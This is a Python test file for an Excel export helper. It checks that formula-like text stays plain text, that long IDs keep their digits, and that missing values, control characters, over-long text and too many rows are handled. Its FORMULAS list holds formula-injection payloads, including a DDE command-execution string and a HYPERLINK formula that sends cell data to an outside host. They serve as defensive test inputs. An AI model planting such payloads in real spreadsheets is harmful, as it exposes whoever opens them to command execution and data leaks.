"""Excel files hold every text as it is, and evaluate nothing."""

import zipfile

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from forametric.errors import InputError
from forametric.utils import excel
from forametric.utils.excel import write_sheets

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"x")', "=1+cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)",
            "\t=1", "#N/A", "#DIV/0!", "{=1}", "http://x", "mailto:x"]  # fmt: skip


def _cells(path, sheet="a"):
    return [list(row) for row in load_workbook(path)[sheet].iter_rows()]


def test_text_that_looks_like_a_formula_is_text_in_cells_and_headers(tmp_path):
    table = pd.DataFrame([FORMULAS], columns=FORMULAS)
    write_sheets(tmp_path / "a.xlsx", {"a": table})
    for row in _cells(tmp_path / "a.xlsx"):
        assert [cell.value for cell in row] == FORMULAS
        assert {cell.data_type for cell in row} == {"s"}
        assert {cell.hyperlink for cell in row} == {None}
        assert all(cell.quotePrefix for cell in row[:6]), "text also after an edit"
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_identifiers_of_digits_keep_all_of_them(tmp_path):
    ids = ["777711000000000001", "00042", "1e5", 777711000000000001]
    write_sheets(tmp_path / "a.xlsx", {"a": pd.DataFrame({"id": pd.Series(ids, dtype=object)})})
    cells = [row[0] for row in _cells(tmp_path / "a.xlsx")[1:]]
    assert [cell.value for cell in cells] == [str(one) for one in ids]
    assert {cell.data_type for cell in cells} == {"s"}


def test_values_keep_their_kind_and_missing_ones_are_empty(tmp_path):
    values = [1, 2.5, True, np.int64(3), np.float32(0.5), np.bool_(False), None, np.nan, pd.NA,
              pd.NaT, np.inf, pd.Timestamp("2020-01-02"), "", " x "]  # fmt: skip
    write_sheets(tmp_path / "a.xlsx", {"a": pd.DataFrame({1: pd.Series(values, dtype=object)})})
    read = [row[0].value if row else None for row in _cells(tmp_path / "a.xlsx")[1:]]
    assert read[:13] == [
        1, 2.5, True, 3, 0.5, False, None, None, None, None, "inf", "2020-01-02 00:00:00", None,
    ]  # fmt: skip
    assert read[13] == " x "


def test_control_characters_do_not_stop_an_export(tmp_path):
    text = "".join(map(chr, range(0x20))) + "\x7f\ufffe_x0041_"
    write_sheets(tmp_path / "a.xlsx", {"a": pd.DataFrame({f"h\x01{text}": [text, "b"]})})
    rows = _cells(tmp_path / "a.xlsx")
    assert rows[2][0].value == "b"
    assert "x0041" in rows[1][0].value


def test_text_that_excel_cuts_is_reported(tmp_path, caplog):
    write_sheets(tmp_path / "a.xlsx", {"a": pd.DataFrame({"x": ["y" * 40_000]})})
    assert len(_cells(tmp_path / "a.xlsx")[1][0].value) == 32_767
    assert "1 texts were cut" in caplog.text


def test_more_rows_than_excel_holds_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(excel, "MAX_ROWS", 3)
    with pytest.raises(InputError, match="write CSV instead"):
        write_sheets(tmp_path / "a.xlsx", {"a": pd.DataFrame({"x": range(3)})})
    assert not (tmp_path / "a.xlsx").exists()
